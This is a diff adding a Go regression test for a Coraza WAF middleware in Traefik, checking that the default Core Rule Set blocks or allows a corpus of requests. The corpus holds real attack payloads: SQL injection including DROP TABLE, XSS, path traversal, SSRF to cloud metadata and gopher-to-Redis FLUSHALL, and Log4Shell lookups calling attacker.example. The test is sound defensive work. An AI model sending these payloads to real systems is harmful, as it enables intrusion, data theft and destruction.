@@ -0,0 +1,124 @@
+package coraza
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/chairswithlegs/coraza-traefik-middleware/src/audit"
+	"github.com/stretchr/testify/assert"
+)
+
+// corpusCase is a real-world attack payload, or a benign request resembling one, with the decision the default
+// configuration (the Core Rule Set at paranoia level 1, as in docker-compose.yml) is expected to make. Payloads are
+// in the query, body and headers: Traefik passes the path in X-Forwarded-Uri, which the handler alone does not read.
+type corpusCase struct {
+	category string
+	name     string
+	method   string
+	target   string
+	header   http.Header
+	body     string
+	// contentType defaults to a form when there is a body
+	contentType string
+	block       bool
+}
+
+func corpusQuery(name string, value string) string {
+	return "/search?" + name + "=" + url.QueryEscape(value)
+}
+
+var attackCorpus = []corpusCase{
+	// SQL injection
+	{category: "sqli", name: "tautology", target: corpusQuery("id", "1' OR '1'='1"), block: true},
+	{category: "sqli", name: "union select", target: corpusQuery("id", "1 UNION SELECT username, password FROM users--"), block: true},
+	{category: "sqli", name: "stacked query", target: corpusQuery("id", "1; DROP TABLE users"), block: true},
+	{category: "sqli", name: "time based blind", target: corpusQuery("id", "1' AND SLEEP(5)-- -"), block: true},
+	{category: "sqli", name: "comment obfuscation", target: corpusQuery("id", "1/**/UNION/**/SELECT/**/password/**/FROM/**/users"), block: true},
+	{category: "sqli", name: "form body", method: http.MethodPost, target: "/login", body: "username=" + url.QueryEscape("admin'--") + "&password=x", block: true},
+	{category: "sqli", name: "json body", method: http.MethodPost, target: "/api/users", body: `{"id":"1' OR 1=1 -- "}`, contentType: "application/json", block: true},
+	{category: "sqli", name: "benign apostrophe", target: corpusQuery("q", "O'Reilly books"), block: false},
+	{category: "sqli", name: "benign select in prose", target: corpusQuery("q", "select the best union station hotel"), block: false},
+
+	// Cross-site scripting
+	{category: "xss", name: "script tag", target: corpusQuery("q", "<script>alert(1)</script>"), block: true},
+	{category: "xss", name: "event handler", target: corpusQuery("q", "<img src=x onerror=alert(1)>"), block: true},
+	{category: "xss", name: "svg onload", target: corpusQuery("q", "<svg/onload=alert(document.domain)>"), block: true},
+	{category: "xss", name: "javascript uri", target: corpusQuery("next", "javascript:alert(document.cookie)"), block: true},
+	{category: "xss", name: "form body", method: http.MethodPost, target: "/comments", body: "comment=" + url.QueryEscape(`<iframe src="javascript:alert(1)">`), block: true},
+	// A false positive of the Core Rule Set: the angle brackets look like a tag. Pinned so that a fix shows up here.
+	{category: "xss", name: "benign comparison", target: corpusQuery("q", "1 < 2 and 3 > 2"), block: true},
+	{category: "xss", name: "benign script word", target: corpusQuery("q", "the script of the movie was great"), block: false},
+
+	// Path traversal and local file inclusion
+	{category: "traversal", name: "relative path", target: corpusQuery("file", "../../etc/passwd"), block: true},
+	{category: "traversal", name: "encoded relative path", target: "/download?file=..%2f..%2f..%2fetc%2fpasswd", block: true},
+	{category: "traversal", name: "double encoded relative path", target: "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", block: true},
+	{category: "traversal", name: "windows path", target: corpusQuery("file", `..\..\windows\win.ini`), block: true},
+	{category: "traversal", name: "benign relative link", target: corpusQuery("page", "docs/getting-started.html"), block: false},
+
+	// Server-side request forgery
+	{category: "ssrf", name: "cloud metadata", target: corpusQuery("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"), block: true},
+	{category: "ssrf", name: "gopher scheme", target: corpusQuery("url", "gopher://127.0.0.1:6379/_FLUSHALL"), block: true},
+	{category: "ssrf", name: "file scheme", target: corpusQuery("url", "file:///etc/passwd"), block: true},
+	{category: "ssrf", name: "benign url", target: corpusQuery("url", "https://www.example.com/articles/42"), block: false},
+
+	// Log4Shell
+	{category: "log4shell", name: "query", target: corpusQuery("q", "${jndi:ldap://attacker.example/a}"), block: true},
+	{category: "log4shell", name: "user agent", target: "/", header: http.Header{"User-Agent": {"${jndi:ldap://attacker.example/a}"}}, block: true},
+	{category: "log4shell", name: "nested lookups", target: corpusQuery("q", "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"), block: true},
+	// A false positive of the Core Rule Set: any ${...} is taken for a Log4j lookup
+	{category: "log4shell", name: "benign template", target: corpusQuery("q", "price is ${price} per month"), block: true},
+
+	// Benign traffic
+	{category: "benign", name: "root", target: "/"},
+	{category: "benign", name: "query parameters", target: "/products?id=42&sort=price&order=desc"},
+	{category: "benign", name: "form login", method: http.MethodPost, target: "/login", body: "username=alice&password=correct-horse"},
+	{category: "benign", name: "json body", method: http.MethodPost, target: "/api/orders", body: `{"item":"book","quantity":2,"note":"gift wrap, please"}`, contentType: "application/json"},
+	{category: "benign", name: "email address", target: corpusQuery("email", "o.neil+news@example.com")},
+}
+
+// TestAttackCorpus pins the decisions of the default configuration, so an upgrade of Coraza or the Core Rule Set
+// that changes what is blocked or allowed fails here rather than in production
+func TestAttackCorpus(t *testing.T) {
+	auditLogProcessor := audit.NewLogProcessor(audit.AuditLogProcessorOptions{
+		AuditLogPath: filepath.Join(t.TempDir(), "audit.log"),
+	})
+	t.Setenv("DIRECTIVES", mockDirectives)
+	wafHandler := NewCorazaWAFHandler(auditLogProcessor, WAFHandlerOptions{})
+
+	for _, tc := range attackCorpus {
+		t.Run(tc.category+"/"+tc.name, func(t *testing.T) {
+			method := tc.method
+			if method == "" {
+				method = http.MethodGet
+			}
+			req := httptest.NewRequest(method, tc.target, strings.NewReader(tc.body))
+			req.RemoteAddr = "192.0.2.10:4711"
+			req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
+			req.Header.Set("Accept", "text/html,application/json;q=0.9,*/*;q=0.8")
+			if tc.body != "" {
+				contentType := tc.contentType
+				if contentType == "" {
+					contentType = "application/x-www-form-urlencoded"
+				}
+				req.Header.Set("Content-Type", contentType)
+			}
+			for name, values := range tc.header {
+				req.Header[name] = values
+			}
+
+			w := httptest.NewRecorder()
+			wafHandler.ServeHTTP(w, req)
+
+			if tc.block {
+				assert.Equal(t, http.StatusForbidden, w.Code, "Expected %s %s to be blocked", method, tc.target)
+			} else {
+				assert.Equal(t, http.StatusOK, w.Code, "Expected %s %s to be allowed", method, tc.target)
+			}
+		})
+	}
+}